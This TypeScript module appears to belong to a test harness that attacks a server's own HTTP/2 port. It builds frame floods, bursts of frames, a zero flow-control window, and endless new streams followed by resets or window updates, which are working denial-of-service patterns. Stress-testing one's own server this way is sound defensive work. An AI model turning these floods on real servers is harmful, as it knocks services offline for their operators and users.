/** How a connection of HTTP/2 attacks: the same frame over and over, some frames at once, or ever new streams. */
import type { Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Hostile } from '../hostile.ts'
import type { Attack } from './attack.ts'
import { END_HEADERS, frame, FRAME, INITIAL_WINDOW, preface, request, type Setting, uint32 } from './frame.ts'

const FLOOD = 'one connection sends so many bytes'
/** What the server allows at a time. */
export const STREAMS = 128
export const ZERO_WINDOW: Setting = [INITIAL_WINDOW, 0]
export const BODY = END_HEADERS

export function begin(hostile: Hostile, pairs: readonly Setting[] = [], reads = true): Socket {
  const socket = hostile.open(hostile.ports.http2, reads)
  socket.write(preface(...pairs))
  return socket
}

/** One frame, over and over. */
export function flood(
  name: string,
  piece: Buffer,
  count: number,
  first = Buffer.alloc(0),
  reads = true,
): Attack {
  return {
    name: `HTTP/2: ${name}`,
    door: 'http2',
    ms: 800,
    alone: FLOOD,
    async run(hostile) {
      const socket = begin(hostile, [], reads)
      socket.write(first)
      await hostile.flood(socket, piece, hostile.times(count))
    },
  }
}

/** Some frames, and then nothing. */
export function once(name: string, frames: Buffer, pairs: readonly Setting[] = [], reads = true): Attack {
  return {
    name: `HTTP/2: ${name}`,
    door: 'http2',
    ms: 800,
    run: (hostile) => begin(hostile, pairs, reads).write(frames),
  }
}

/** Requests on ever new streams, each followed by something. */
export function renewed(
  name: string,
  path: string,
  after: (stream: number) => Buffer,
  flags?: number,
): Attack {
  return {
    name: `HTTP/2: ${name}`,
    door: 'http2',
    ms: 1000,
    async run(hostile) {
      const socket = begin(hostile)
      const rounds = hostile.times(200)
      for (let round = 0; round < rounds && !hostile.isOver && !socket.destroyed; round++) {
        const streams = Array.from({ length: 50 }, (_, n) => 1 + 2 * (round * 50 + n))
        socket.write(Buffer.concat(streams.flatMap((id) => [request(id, 'POST', path, flags), after(id)])))
        await sleep(2)
      }
    },
  }
}

export const window = (stream: number, bytes: number) => frame(FRAME.window, 0, stream, uint32(bytes))
export const reset = (stream: number) => frame(FRAME.reset, 0, stream, uint32(8))
export const all = (of: (stream: number) => Buffer) =>
  Buffer.concat(Array.from({ length: STREAMS }, (_, n) => of(2 * n + 1)))
